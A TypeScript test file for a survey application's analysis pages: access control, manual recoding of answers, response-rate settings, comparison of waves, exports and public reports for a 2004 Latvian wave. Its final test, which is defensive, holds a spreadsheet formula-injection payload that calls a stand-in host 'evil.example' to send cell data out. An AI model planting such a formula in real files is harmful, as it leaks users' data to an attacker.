// The analysis pages: who may see them, an analyst changing an automatic code and the report following,
// the settings form, the comparison of two waves, exports, and the public report of a closed wave.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { parse as parseCsv } from 'csv-parse/sync';
import type { Hono } from 'hono';
import type { Kysely } from 'kysely';
import { createAccountForTest, formPost, getAs, signInForTest, type TestSession } from '../accounts/testing.js';
import type { Database } from '../db/database.js';
import { loadDemoData } from '../demo/demo.service.js';
import type { AppEnvironment } from '../http/context.js';
import { importResponses } from '../surveys/response-csv.service.js';
import { createWave } from '../surveys/wave.service.js';
import { createTestApp } from '../testing/test-database.js';

let app: Hono<AppEnvironment>;
let db: Kysely<Database>;
let close: () => Promise<void>;
let analyst: TestSession;

before(async () => {
  ({ app, db, close } = await createTestApp());
  // The reconstructed 2004 wave is demonstration data, loaded as `npx atlas demo load` does.
  await loadDemoData(db);
  analyst = await signInForTest(app, db, await createAccountForTest(db, { role: 'analyst' }));
});
after(() => close());

type ReportJson = {
  blocks: Record<
    string,
    {
      provided_what: {
        groups: Record<string, { count: number }>;
        categories: Record<string, { count: number }>;
        reviewed: number;
      };
    }
  >;
  response_rates: Record<string, number | null>;
};

async function reportJson(): Promise<ReportJson> {
  const response = await getAs(app, '/staff/analysis/lv-2004/report.json?lang=en', analyst);
  assert.equal(response.status, 200);
  return (await response.json()) as ReportJson;
}

test('only administrators and analysts see the analysis; a browser without a session goes to sign in', async () => {
  const anonymous = await app.request('/staff/analysis/lv-2004');
  assert.equal(anonymous.status, 303);
  assert.match(anonymous.headers.get('location') ?? '', /^\/login\?next=/);
  const editor = await signInForTest(app, db, await createAccountForTest(db, { role: 'institution_editor' }));
  assert.equal((await getAs(app, '/staff/analysis/lv-2004', editor)).status, 403);
  const administrator = await signInForTest(app, db, await createAccountForTest(db, { role: 'administrator' }));
  assert.equal((await getAs(app, '/staff/analysis', administrator)).status, 200);
});

test('the report page shows the 2004 figures and charts, in Latvian and in Russian', async () => {
  const latvian = await (await getAs(app, '/staff/analysis/lv-2004?lang=lv', analyst)).text();
  assert.ok(latvian.includes('Lielākā daļa atbildējušo ir pašvaldību iestādes: 98 no 111 (88,3%).'));
  assert.ok(latvian.includes('aria-labelledby="chart-drugs-title chart-drugs-desc"'));
  const russian = await getAs(app, '/staff/analysis/lv-2004?lang=ru', analyst);
  assert.equal(russian.status, 200);
  assert.ok((await russian.text()).includes('Большинство ответивших — учреждения самоуправлений: 98 из 111 (88,3%).'));
  assert.equal((await getAs(app, '/staff/analysis/no-such-wave', analyst)).status, 404);
});

test('an analyst changes an automatic code in the app and the report’s counts follow', async () => {
  // A documents answer that names only information: coded automatically as information, not as material help.
  const row = await db
    .selectFrom('survey_response')
    .innerJoin('wave', 'wave.id', 'survey_response.wave_id')
    .select(['survey_response.respondent_id', 'survey_response.answers'])
    .where('wave.key', '=', 'lv-2004')
    .where((eb) =>
      eb(
        eb.ref('survey_response.answers', '->>').key('documents_provided_what'),
        '=',
        'Sniedzam informāciju, kur un kā kārtot dokumentus',
      ),
    )
    .orderBy('survey_response.respondent_id')
    .executeTakeFirstOrThrow();
  const respondentId = row.respondent_id;
  const before = await reportJson();
  assert.equal(before.blocks.documents!.provided_what.groups.material!.count, 55);

  const page = await (await getAs(app, '/staff/analysis/lv-2004/coding/documents?lang=en', analyst)).text();
  // The free-text questions are named by what they ask, not by their CSV columns.
  assert.match(page, /<strong aria-current="page">What exactly the help was<\/strong>/);
  assert.match(page, />Whom they need to cooperate with<\/a>/);
  assert.ok(page.includes(`id="answer-${respondentId}"`), 'the answer is listed for coding');

  const saved = await formPost(
    app,
    '/staff/analysis/lv-2004/coding/documents',
    {
      respondent_id: respondentId,
      question_id: 'documents_provided_what',
      action: 'save',
      category: ['information', 'cash_benefit'],
    },
    analyst,
  );
  assert.equal(saved.status, 303);
  assert.match(saved.headers.get('location') ?? '', new RegExp(`#answer-${respondentId}$`));
  const changed = await reportJson();
  assert.equal(
    changed.blocks.documents!.provided_what.groups.material!.count,
    56,
    'the material-help count follows the analyst',
  );
  assert.equal(
    changed.blocks.documents!.provided_what.categories.cash_benefit!.count,
    before.blocks.documents!.provided_what.categories.cash_benefit!.count + 1,
  );
  assert.equal(
    changed.blocks.documents!.provided_what.categories.information!.count,
    before.blocks.documents!.provided_what.categories.information!.count,
  );
  assert.equal(changed.blocks.documents!.provided_what.reviewed, 1);
  const html = await (await getAs(app, '/staff/analysis/lv-2004?lang=en', analyst)).text();
  assert.ok(html.includes('Material help: 56 of 68 answers (82.4%).'));
  const codingPage = await (await getAs(app, '/staff/analysis/lv-2004/coding/documents?lang=en', analyst)).text();
  assert.ok(codingPage.includes('changed by an analyst'));

  const reset = await formPost(
    app,
    '/staff/analysis/lv-2004/coding/documents',
    { respondent_id: respondentId, question_id: 'documents_provided_what', action: 'reset' },
    analyst,
  );
  assert.equal(reset.status, 303);
  assert.equal((await reportJson()).blocks.documents!.provided_what.groups.material!.count, 55, 'back to automatic');
});

test('the coding form refuses an empty choice (400, the answer kept in view) and a post without the CSRF token', async () => {
  const empty = await formPost(
    app,
    '/staff/analysis/lv-2004/coding/documents?lang=en',
    { respondent_id: 'R002', question_id: 'documents_provided_what', action: 'save' },
    analyst,
  );
  assert.equal(empty.status, 400);
  assert.ok((await empty.text()).includes('Choose at least one category.'));
  const unknown = await formPost(
    app,
    '/staff/analysis/lv-2004/coding/documents',
    { respondent_id: 'R002', question_id: 'documents_provided_what', category: 'no_such_code' },
    analyst,
  );
  assert.equal(unknown.status, 400);
  const forged = await formPost(
    app,
    '/staff/analysis/lv-2004/coding/documents',
    { respondent_id: 'R002', question_id: 'documents_provided_what', category: 'information', _csrf: 'forged' },
    analyst,
  );
  assert.equal(forged.status, 403);
  const wrongBlock = await formPost(
    app,
    '/staff/analysis/lv-2004/coding/nothing',
    { respondent_id: 'R002', question_id: 'documents_provided_what', category: 'information' },
    analyst,
  );
  assert.equal(wrongBlock.status, 404);
});

test('cooperation answers are coded on the same page, partners grouped', async () => {
  const page = await (
    await getAs(app, '/staff/analysis/lv-2004/coding/documents?question=documents_needs_cooperation&lang=en', analyst)
  ).text();
  assert.ok(page.includes('Office of Citizenship and Migration Affairs (PMLP)'));
  assert.ok(page.includes('Answers (17)'));
});

test('the analyst sets e in the settings form: a bad value re-renders with 400, a good one changes RR3', async () => {
  const bad = await formPost(
    app,
    '/staff/analysis/lv-2004/settings?lang=en',
    { eligibility_rate: '2', population: '' },
    analyst,
  );
  assert.equal(bad.status, 400);
  const badPage = await bad.text();
  assert.ok(badPage.includes('Enter a number from 0 to 1'));
  assert.ok(badPage.includes('value="2"'), 'what was typed is kept');
  const good = await formPost(
    app,
    '/staff/analysis/lv-2004/settings',
    { eligibility_rate: '0,5', population: '' },
    analyst,
  );
  assert.equal(good.status, 303);
  // RR3 = 111 / (111 + 9 + 0.5 · 480) = 0.308.
  assert.equal((await reportJson()).response_rates.RR3, 0.308);
  await formPost(app, '/staff/analysis/lv-2004/settings', { eligibility_rate: '', population: '' }, analyst);
  assert.equal((await reportJson()).response_rates.RR3, 0.185);
});

test('two waves compared: each block’s share with intervals and the change', async () => {
  const wave = await createWave(db, {
    questionnaireKey: 'lv-2004',
    name: 'Follow-up wave',
    key: 'follow-up',
    sample: { source: 'import' },
  });
  const csv = [
    'respondent_id,institution_type,territory,mode,documents_provides,drugs_provides',
    'R001,municipal,Rīga,online,yes,yes',
    'R002,municipal,Rīga,online,yes,no',
    'R003,ngo,Rīga,online,no,yes',
    'R004,state,Rīga,online,yes,yes',
  ].join('\n');
  await importResponses(db, wave, `${csv}\n`);
  const response = await getAs(app, '/staff/analysis/compare?a=lv-2004&b=follow-up&lang=en', analyst);
  assert.equal(response.status, 200);
  const html = await response.text();
  assert.ok(html.includes('19/111 (17.1%)'), 'drugs in 2004');
  assert.ok(html.includes('3/4 (75.0%)'), 'drugs in the follow-up');
  assert.ok(html.includes('+57.9'), 'change in points: 75.0 − 17.1');
  assert.ok(html.includes('aria-labelledby="chart-compare-title chart-compare-desc"'));
});

test('exports: CSV with values and labels, SPSS syntax with variable and value labels, JSON of every table', async () => {
  const csv = await getAs(app, '/staff/analysis/lv-2004/export.csv?lang=en', analyst);
  assert.equal(csv.status, 200);
  assert.match(csv.headers.get('content-disposition') ?? '', /attachment; filename="responses-lv-2004.csv"/);
  const lines = (await csv.text()).trim().split('\n');
  const header = lines[0]!.split(',');
  assert.ok(
    header.includes('documents_provides') &&
      header.includes('documents_provides_label') &&
      header.includes('documents_provided_what_codes'),
  );
  assert.ok(lines.some((line) => line.startsWith('R001,municipal,municipal institution,')));
  const sps = await (await getAs(app, '/staff/analysis/lv-2004/export.sps?lang=lv', analyst)).text();
  for (const part of [
    'DATA LIST LIST(",") /',
    'BEGIN DATA',
    'END DATA.',
    'VARIABLE LABELS',
    'VALUE LABELS',
    "documents_provides 1 'Jā' 2 'Nē'",
  ])
    assert.ok(sps.includes(part), part);
  const dataLines = sps
    .slice(sps.indexOf('BEGIN DATA') + 11, sps.indexOf('END DATA.'))
    .trim()
    .split('\n');
  assert.equal(dataLines.length, 111);
  const tables = (await (await getAs(app, '/staff/analysis/lv-2004/export.json', analyst)).json()) as {
    tables: Array<{ id: string }>;
  };
  assert.ok(tables.tables.some((table) => table.id === 'drugs-provides'));
});

test('a closed wave’s report is public; an open or draft one is not', async () => {
  const published = await app.request('/reports/lv-2004?lang=en');
  assert.equal(published.status, 200);
  assert.ok((await published.text()).includes('Most respondents are municipal bodies: 98 of 111 (88.3%).'));
  const pdf = await app.request('/reports/lv-2004/report.pdf');
  assert.equal(pdf.status, 200);
  assert.equal(pdf.headers.get('content-type'), 'application/pdf');
  assert.equal((await app.request('/reports/follow-up')).status, 404);
  assert.ok((await (await app.request('/reports?lang=en')).text()).includes('/reports/lv-2004'));
});

test('the CSV export writes free text that a spreadsheet would run as a formula as text', async () => {
  const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
  const wave = await createWave(db, {
    questionnaireKey: 'lv-2004',
    name: 'Formula wave',
    key: 'formula',
    sample: { source: 'import' },
  });
  const csv = [
    'respondent_id,institution_type,territory,mode,documents_provides,documents_provided_what',
    `R001,municipal,Rīga,online,yes,"${formula.replace(/"/g, '""')}"`,
  ].join('\n');
  await importResponses(db, wave, `${csv}\n`);
  const response = await getAs(app, '/staff/analysis/formula/export.csv?lang=en', analyst);
  assert.equal(response.status, 200);
  const [header, row] = parseCsv(await response.text()) as string[][];
  assert.equal(row![header!.indexOf('documents_provided_what')], `'${formula}`);
  const audited = await db
    .selectFrom('audit_event')
    .select(['account_id', 'details'])
    .where('action', '=', 'analysis.answers.export')
    .where('entity_id', '=', 'formula')
    .execute();
  assert.deepEqual(
    audited.map((event) => event.details),
    [{ format: 'csv' }],
    'the answer export is audited',
  );
});
